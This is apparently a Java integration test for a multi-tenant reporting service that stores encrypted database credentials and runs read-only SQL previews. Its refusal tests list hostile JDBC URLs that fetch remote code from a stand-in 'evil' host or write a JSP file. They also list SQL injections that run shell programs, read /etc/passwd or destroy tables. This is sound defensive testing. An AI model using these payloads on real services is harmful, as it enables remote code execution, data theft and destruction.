package io.kavsak.hub.reports;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.fasterxml.jackson.databind.JsonNode;
import io.kavsak.hub.support.HubIntegrationTest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.sql.Connection;
import java.sql.DriverManager;
import java.sql.Statement;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Value;
import org.springframework.jdbc.core.JdbcTemplate;

/** Tenant datasources and read-only report queries against a second, real database on the embedded PostgreSQL. */
class TenantDatasourceIT extends HubIntegrationTest {

    private static final String DATABASE = "kavsak_reports_it";
    private static final String READER = "report_reader";
    private static final String PASSWORD = "Rd-" + UUID.randomUUID();
    private static final int ORDERS = 200;

    @Autowired
    private JdbcTemplate jdbc;
    @Autowired
    private ReportQueries queries;
    @Autowired
    private TenantDatasources datasources;
    @Value("${spring.datasource.url}")
    private String hubUrl;

    private static boolean prepared;

    private String reportsUrl() {
        return hubUrl.substring(0, hubUrl.lastIndexOf('/') + 1) + DATABASE;
    }

    /** The second database: a sample table the reader may only SELECT from. */
    private synchronized void prepareDatabase() throws Exception {
        if (prepared) {
            return;
        }
        if (jdbc.queryForObject("select count(*) from pg_database where datname = ?", Integer.class, DATABASE) == 0) {
            jdbc.execute("create database " + DATABASE);
        }
        jdbc.execute("do $$ begin if not exists (select from pg_roles where rolname = '" + READER + "') then "
                + "create role " + READER + " login; end if; end $$");
        jdbc.execute("alter role " + READER + " password '" + PASSWORD + "'");
        requirePasswordsOfTheReader();
        try (Connection owner = DriverManager.getConnection(reportsUrl(), "postgres", "postgres");
             Statement sql = owner.createStatement()) {
            sql.execute("drop table if exists orders");
            sql.execute("create table orders (id int primary key, customer text, amount numeric(10,2))");
            sql.execute("insert into orders select g, 'customer-' || g, g * 1.5 from generate_series(1, " + ORDERS
                    + ") g");
            sql.execute("create sequence if not exists order_numbers");
            sql.execute("grant select on orders to " + READER);
            sql.execute("create table if not exists visits (at timestamptz default now())");
            sql.execute("grant insert on visits to " + READER);
            sql.execute("create or replace function record_visit() returns int language sql as "
                    + "'insert into visits default values returning 1'");
            sql.execute("grant usage, select, update on sequence order_numbers to " + READER);
        }
        prepared = true;
    }

    /** The embedded server trusts local logins; the reader of the reports database must give its password. */
    private void requirePasswordsOfTheReader() throws Exception {
        java.nio.file.Path hba = java.nio.file.Path.of(jdbc.queryForObject("show hba_file", String.class));
        String rules = java.nio.file.Files.readString(hba);
        String own = "host " + DATABASE + " " + READER + " 127.0.0.1/32 scram-sha-256\n"
                + "host " + DATABASE + " " + READER + " ::1/128 scram-sha-256\n";
        if (!rules.startsWith(own)) {
            java.nio.file.Files.writeString(hba, own + rules);
            jdbc.queryForObject("select pg_reload_conf()", Boolean.class);
            Thread.sleep(500);
        }
    }

    private int orderRows() throws Exception {
        try (Connection owner = DriverManager.getConnection(reportsUrl(), "postgres", "postgres");
             Statement sql = owner.createStatement();
             var rs = sql.executeQuery("select count(*), coalesce(sum(amount), 0) from orders")) {
            rs.next();
            return rs.getInt(1);
        }
    }

    private int auditRows() throws Exception {
        try (Connection owner = DriverManager.getConnection(reportsUrl(), "postgres", "postgres");
             Statement sql = owner.createStatement();
             var rs = sql.executeQuery("select count(*) from visits")) {
            rs.next();
            return rs.getInt(1);
        }
    }

    private String tenant() {
        String tenant = "ds-" + UUID.randomUUID().toString().substring(0, 8);
        registerTenant(tenant);
        return tenant;
    }

    private String admin(String tenant) {
        return TOKENS.admin("admin-1", tenant);
    }

    private static String body(String url, String user, String password) {
        return "{\"jdbc_url\": \"" + url + "\", \"username\": \"" + user + "\", \"password\": \"" + password
                + "\", \"schema\": \"public\"}";
    }

    private HttpResponse<String> register(String tenant, String id, String user, String password) {
        return call("PUT", "/api/v1/tenants/" + tenant + "/datasources/" + id, admin(tenant),
                body(reportsUrl(), user, password));
    }

    private String registered() throws Exception {
        prepareDatabase();
        String tenant = tenant();
        HttpResponse<String> response = register(tenant, "sales", READER, PASSWORD);
        assertThat(response.statusCode()).as(response.body()).isEqualTo(201);
        return tenant;
    }

    private HttpResponse<String> post(String tenant, String id, String operation, String sql) {
        return call("POST", "/api/v1/tenants/" + tenant + "/datasources/" + id + "/" + operation, admin(tenant),
                sql == null ? null : "{\"sql\": " + quote(sql) + "}");
    }

    private static String quote(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\n", "\\n") + "\"";
    }

    @Test
    void thePasswordIsEncryptedAtRestAndNeverReturned() throws Exception {
        String tenant = registered();

        byte[] stored = jdbc.queryForObject("select password_encrypted from tenant_datasource where tenant_id = ? "
                + "and datasource_id = 'sales'", byte[].class, tenant);
        byte[] plain = PASSWORD.getBytes(StandardCharsets.UTF_8);
        assertThat(stored).isNotEqualTo(plain);
        assertThat(new String(stored, StandardCharsets.ISO_8859_1)).doesNotContain(PASSWORD);
        assertThat(stored.length).isEqualTo(12 + plain.length + 16); // nonce + ciphertext + GCM tag
        assertThat(datasources.connectable(tenant, "sales").password()).isEqualTo(PASSWORD);
        // sealed to its row: the same bytes under another tenant's id do not open
        assertThatThrownBy(() -> new CredentialCipher(new ReportProperties(
                "a2F2c2FrLWl0LXJlcG9ydHMta2V5LTMyLWJ5dGVzISE=", null, 0, 0, 0, null, 0)).open("other", "sales", stored))
                .isInstanceOf(IllegalStateException.class);

        List<HttpResponse<String>> answers = new ArrayList<>();
        answers.add(register(tenant, "sales", READER, PASSWORD));
        answers.add(call("GET", "/api/v1/tenants/" + tenant + "/datasources", admin(tenant), null));
        answers.add(call("GET", "/api/v1/tenants/" + tenant + "/datasources/sales", admin(tenant), null));
        answers.add(post(tenant, "sales", "connection-test", null));
        answers.add(post(tenant, "sales", "query-preview", "select current_user, 1"));
        assertThat(answers.get(0).statusCode()).isEqualTo(200);
        for (HttpResponse<String> answer : answers) {
            assertThat(answer.body()).doesNotContain(PASSWORD).doesNotContain("\"password\"");
        }
        JsonNode view = jsonOf(answers.get(2));
        assertThat(view.path("jdbc_url").asText()).isEqualTo(reportsUrl());
        assertThat(view.path("username").asText()).isEqualTo(READER);
    }

    @Test
    void theConnectionTestReportsTheServerVersionOrWhyItFailed() throws Exception {
        String tenant = registered();
        JsonNode ok = jsonOf(post(tenant, "sales", "connection-test", null));
        assertThat(ok.path("reachable").asBoolean()).as(ok.toString()).isTrue();
        String version = jdbc.queryForObject("show server_version", String.class);
        assertThat(ok.path("server_version").asText()).isEqualTo("PostgreSQL " + version);

        assertThat(register(tenant, "wrong", READER, "not-the-password").statusCode()).isEqualTo(201);
        JsonNode refused = jsonOf(post(tenant, "wrong", "connection-test", null));
        assertThat(refused.path("reachable").asBoolean()).isFalse();
        assertThat(refused.path("error").asText()).contains("password authentication failed");
        System.out.println("connection test: " + ok + " / wrong password: " + refused);
    }

    @Test
    void urlsToTheHubsOwnDatabaseOrWithDangerousOptionsAreRefused() throws Exception {
        prepareDatabase();
        String tenant = tenant();
        String[][] refused = {
                {hubUrl, READER},
                {reportsUrl(), "postgres"},
                {reportsUrl() + "?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
                        + "&socketFactoryArg=http://evil/x.xml", READER},
                {reportsUrl() + "?sslfactory=x.Y", READER},
                {reportsUrl() + "?loggerFile=/tmp/x.jsp&loggerLevel=DEBUG", READER},
                {reportsUrl() + "?authenticationPluginClassName=x.Y", READER},
                {"jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", READER},
        };
        for (String[] attempt : refused) {
            HttpResponse<String> response = call("PUT", "/api/v1/tenants/" + tenant + "/datasources/bad",
                    admin(tenant), body(attempt[0], attempt[1], "pw"));
            assertThat(response.statusCode()).as(attempt[0] + " " + response.body()).isEqualTo(400);
            assertThat(response.headers().firstValue("Content-Type")).hasValue("application/problem+json");
        }
        assertThat(jdbc.queryForObject("select count(*) from tenant_datasource where tenant_id = ?", Integer.class,
                tenant)).isZero();
    }

    @Test
    void hostileStatementsAreRefusedWithTheirReasonAndTheDatabaseIsUntouched() throws Exception {
        String tenant = registered();
        List<String> hostile = List.of(
                "select 1; drop table orders",
                "select * from orders; delete from orders",
                "drop table orders",
                "delete from orders",
                "update orders set amount = 0",
                "insert into orders values (999, 'x', 1)",
                "truncate orders",
                "create table stolen as select * from orders",
                "alter table orders add column x int",
                "grant all on orders to public",
                "copy orders to '/tmp/orders.csv'",
                "copy (select * from orders) to program 'id'",
                "select * into stolen from orders",
                "select * from orders for update",
                "select * from orders for share",
                "with gone as (delete from orders returning *) select * from gone",
                "select pg_sleep(10)",
                "select pg_catalog.pg_sleep(10)",
                "select pg_terminate_backend(pid) from pg_stat_activity",
                "select lo_import('/etc/passwd')",
                "select pg_read_file('/etc/passwd')",
                "select set_config('default_transaction_read_only', 'off', false)",
                "select nextval('order_numbers')",
                "select * from dblink('dbname=kavsak', 'select 1') as t(x int)",
                "select id from orders where id in (select nextval('order_numbers'))",
                "select query_to_xml('delete from orders', true, true, '')",
                "vacuum orders",
                "set role postgres",
                "begin; delete from orders; commit",
                "lock table orders");
        int refused = 0;
        for (String sql : hostile) {
            HttpResponse<String> check = post(tenant, "sales", "query-check", sql);
            HttpResponse<String> run = post(tenant, "sales", "query-preview", sql);
            assertThat(check.statusCode()).as(sql + " -> " + check.body()).isEqualTo(400);
            assertThat(run.statusCode()).as(sql + " -> " + run.body()).isEqualTo(400);
            assertThat(check.headers().firstValue("Content-Type")).hasValue("application/problem+json");
            assertThat(jsonOf(check).path("detail").asText()).startsWith("The query was refused: ");
            refused++;
            System.out.println("refused: " + sql.replace('\n', ' ') + " -> " + jsonOf(check).path("detail").asText());
        }
        System.out.println("hostile statements refused: " + refused + " of " + hostile.size());
        assertThat(orderRows()).isEqualTo(ORDERS);

        List<String> accepted = List.of(
                "select id, amount from orders where amount > 10 order by id",
                "with big as (select * from orders where amount > 100) select count(*) from big",
                "select customer, sum(amount) from orders group by customer having sum(amount) > 5",
                "select o.id, x.n from orders o join (select 1 as n) x on true limit 3",
                "select 'a; drop table orders' as text_with_semicolon");
        for (String sql : accepted) {
            HttpResponse<String> check = post(tenant, "sales", "query-check", sql);
            assertThat(check.statusCode()).as(sql + " -> " + check.body()).isEqualTo(200);
            HttpResponse<String> run = post(tenant, "sales", "query-preview", sql);
            assertThat(run.statusCode()).as(sql + " -> " + run.body()).isEqualTo(200);
        }
        assertThat(jsonOf(post(tenant, "sales", "query-preview", accepted.get(4))).path("rows").get(0).get(0)
                .asText()).isEqualTo("a; drop table orders");
        assertThat(orderRows()).isEqualTo(ORDERS);
    }

    @Test
    void previewsAreCappedLongQueriesTimeOutAndRunsOverTheRowLimitFail() throws Exception {
        String tenant = registered();
        JsonNode preview = jsonOf(post(tenant, "sales", "query-preview", "select id, customer from orders order by id"));
        assertThat(preview.path("columns").toString()).isEqualTo("[\"id\",\"customer\"]");
        assertThat(preview.path("rows")).hasSize(5);
        assertThat(preview.path("rows").get(0).toString()).isEqualTo("[1,\"customer-1\"]");
        assertThat(preview.path("truncated").asBoolean()).isTrue();

        long started = System.nanoTime();
        HttpResponse<String> slow = post(tenant, "sales", "query-preview",
                "select count(*) from generate_series(1, 1000000000) a");
        long tookMs = (System.nanoTime() - started) / 1_000_000;
        assertThat(slow.statusCode()).as(slow.body()).isEqualTo(422);
        assertThat(jsonOf(slow).path("detail").asText()).contains("statement timeout of 1000 ms");
        System.out.println("timed-out preview answered in " + tookMs + " ms");

        TenantDatasources.Connectable source = datasources.connectable(tenant, "sales");
        List<List<Object>> rows = new ArrayList<>();
        queries.stream(source, "select id from orders where id <= 50", rows::add);
        assertThat(rows).hasSize(50);
        assertThatThrownBy(() -> queries.stream(source, "select id from orders", row -> { }))
                .isInstanceOf(ReportQueryFailedException.class).hasMessageContaining("more than 50 rows");
        // what the parser cannot see (a function of the tenant's that writes) meets the read-only transaction
        assertThatThrownBy(() -> queries.stream(source, "select record_visit()", row -> { }))
                .isInstanceOf(ReportQueryFailedException.class).hasMessageContaining("read-only transaction");
        assertThat(auditRows()).isZero();
    }

    @Test
    void aReplacedDatasourceGetsANewPool() throws Exception {
        String tenant = registered();
        assertThat(post(tenant, "sales", "query-preview", "select 1").statusCode()).isEqualTo(200);
        assertThat(register(tenant, "sales", READER, "changed-password").statusCode()).isEqualTo(200);
        HttpResponse<String> afterChange = post(tenant, "sales", "query-preview", "select 1");
        assertThat(afterChange.statusCode()).as(afterChange.body()).isEqualTo(422);
        assertThat(register(tenant, "sales", READER, PASSWORD).statusCode()).isEqualTo(200);
        assertThat(post(tenant, "sales", "query-preview", "select 1").statusCode()).isEqualTo(200);
    }

    @Test
    void anotherTenantSeesNothingOnlyAdminsQueryAndTheOperatorMayRegister() throws Exception {
        String owner = registered();
        String other = tenant();
        String otherAdmin = admin(other);
        String base = "/api/v1/tenants/" + owner + "/datasources";
        assertThat(call("GET", base, otherAdmin, null).statusCode()).isEqualTo(404);
        assertThat(call("GET", base + "/sales", otherAdmin, null).statusCode()).isEqualTo(404);
        assertThat(call("POST", base + "/sales/query-preview", otherAdmin, "{\"sql\": \"select 1\"}").statusCode())
                .isEqualTo(404);
        assertThat(call("POST", base + "/sales/connection-test", otherAdmin, null).statusCode()).isEqualTo(404);
        assertThat(call("PUT", base + "/sales", otherAdmin, body(reportsUrl(), READER, "x")).statusCode())
                .isEqualTo(404);
        assertThat(call("DELETE", base + "/sales", otherAdmin, null).statusCode()).isEqualTo(404);
        // the other tenant's own path does not hold the owner's datasource
        assertThat(post(other, "sales", "query-preview", "select 1").statusCode()).isEqualTo(404);
        // the operator registers what Tenant resources declare, but never tests connections or runs queries
        assertThat(call("GET", base, TOKENS.operator(), null).statusCode()).isEqualTo(200);
        assertThat(call("PUT", base + "/from-operator", TOKENS.operator(), body(reportsUrl(), READER, PASSWORD))
                .statusCode()).isEqualTo(201);
        assertThat(call("GET", base + "/from-operator", TOKENS.operator(), null).statusCode()).isEqualTo(200);
        assertThat(call("POST", base + "/from-operator/connection-test", TOKENS.operator(), null).statusCode())
                .isEqualTo(403);
        assertThat(call("POST", base + "/from-operator/query-preview", TOKENS.operator(), "{\"sql\": \"select 1\"}")
                .statusCode()).isEqualTo(403);
        assertThat(call("POST", base + "/from-operator/query-check", TOKENS.operator(), "{\"sql\": \"select 1\"}")
                .statusCode()).isEqualTo(403);
        assertThat(call("DELETE", base + "/from-operator", TOKENS.operator(), null).statusCode()).isEqualTo(204);
        assertThat(call("DELETE", base + "/from-operator", TOKENS.operator(), null).statusCode()).isEqualTo(404);
        assertThat(call("GET", base, null, null).statusCode()).isEqualTo(401);
        assertThat(datasources.connectable(owner, "sales").password()).isEqualTo(PASSWORD);

        assertThat(call("DELETE", base + "/sales", admin(owner), null).statusCode()).isEqualTo(204);
        assertThat(call("GET", base + "/sales", admin(owner), null).statusCode()).isEqualTo(404);
    }
}
